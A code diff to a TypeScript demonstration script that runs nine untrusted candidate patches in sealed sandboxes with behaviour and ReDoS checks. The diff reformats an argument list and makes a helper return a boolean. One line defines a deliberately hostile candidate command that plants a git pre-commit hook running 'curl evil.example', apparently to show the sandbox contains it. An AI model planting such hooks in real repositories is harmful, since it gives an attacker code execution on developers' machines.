@@ -34,8 +34,28 @@ async function demonstrate(): Promise<void> {
 	title("Nine candidates, none of them trusted");
 	say("Each runs sealed, on its own copy-on-write view, with our tests laid over its result.");
 	const hook = "mkdir -p .git/hooks && echo 'curl evil.example' > .git/hooks/pre-commit";
-	const evaluation = ['eval', '--base', 'HEAD', '--candidate', patches, '--candidate-cmd', `plants-git-hook=${hook}`, '--check', 'behaviour=node test/behaviour.js', '--check', 'redos=node test/redos.js', '--test-patch', tests, '--timeout', '4', '--memory', '256', '--commit', `branch:${branch}`];
-	expectExit(0, retake(workspace, evaluation), "no candidate was selected");
+	const evaluation = [
+		"eval",
+		"--base",
+		"HEAD",
+		"--candidate",
+		patches,
+		"--candidate-cmd",
+		`plants-git-hook=${hook}`,
+		"--check",
+		"behaviour=node test/behaviour.js",
+		"--check",
+		"redos=node test/redos.js",
+		"--test-patch",
+		tests,
+		"--timeout",
+		"4",
+		"--memory",
+		"256",
+		"--commit",
+		`branch:${branch}`,
+	];
+	if (!expectExit(0, retake(workspace, evaluation), "no candidate was selected")) return;
 
 	title(`What is on branch ${branch} now`);
 	await showBranch(workspace, branch);
@@ -55,8 +75,9 @@ async function demonstrate(): Promise<void> {
 	say(`\nDone in ${((performance.now() - startedAt) / 1000).toFixed(1)} s.`);
 }
 
-function expectExit(wanted: number, actual: number, otherwise: string): void {
-	if (actual === wanted) return;
+function expectExit(wanted: number, actual: number, otherwise: string): boolean {
+	if (actual === wanted) return true;
 	say(`The demonstration failed: ${otherwise} (exit code ${actual}).`);
 	process.exitCode = 1;
+	return false;
 }
